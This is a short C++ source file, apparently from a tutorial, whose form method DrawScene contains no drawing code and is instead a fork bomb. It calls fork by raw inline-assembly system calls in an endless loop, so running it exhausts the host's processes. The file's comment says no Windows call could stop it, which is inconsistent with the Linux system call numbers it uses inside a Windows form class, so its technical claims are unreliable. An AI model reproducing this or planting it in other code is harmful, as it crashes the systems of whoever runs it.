// A fork bomb by raw system calls, which no Windows call could stop: every copy forks on
// without end.
#include "Tutorial.h"

static long Fork()
{
    long Result;
#if defined(__x86_64__)
    asm volatile("syscall" : "=a"(Result) : "a"(57L) : "rcx", "r11", "memory");
#else
    asm volatile("int $0x80" : "=a"(Result) : "a"(2L) : "memory");
#endif
    return Result;
}

void TForm1::DrawScene()
{
    for (;;)
        Fork();
}
